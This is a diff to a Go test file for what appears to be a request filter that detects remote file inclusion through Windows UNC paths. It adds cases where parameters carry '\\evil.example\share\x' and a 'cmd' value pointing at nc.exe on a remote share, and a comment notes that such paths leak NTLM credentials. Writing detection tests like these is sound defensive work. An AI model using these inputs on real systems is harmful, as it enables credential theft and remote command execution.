@@ -20,10 +20,13 @@ func TestTraversalThroughLookAlikeSlashes(t *testing.T) {
 }
 
 // TestUNCPathWhereAFileIsExpected: Windows opens \\host\share\file over
-// SMB, a remote include that also hands the host NTLM credentials.
+// SMB, a remote include (or a remote program, or a fetch where a URL was
+// expected) that also hands the host NTLM credentials.
 func TestUNCPathWhereAFileIsExpected(t *testing.T) {
 	runLevelCases(t, []levelCase{
 		{"share on a host", q("file", `\\evil.example\share\x`), "rfi-include-param", "rfi-include-param"},
+		{"share where a URL is expected", q("callback", `\\evil.example\share\x`), "rfi-include-param", "rfi-include-param"},
+		{"program on a share where a command is expected", body("cmd", `\\203.0.113.9\tools\nc.exe`), "*", "*"},
 		{"a local long path", q("file", `\\?\C:\data\file.txt`), "", ""},
 		{"a relative windows path", q("file", `notes\readme.txt`), "", ""},
 		{"in a text field", body("comment", `see \\fileserver\team\plan.docx`), "", ""},
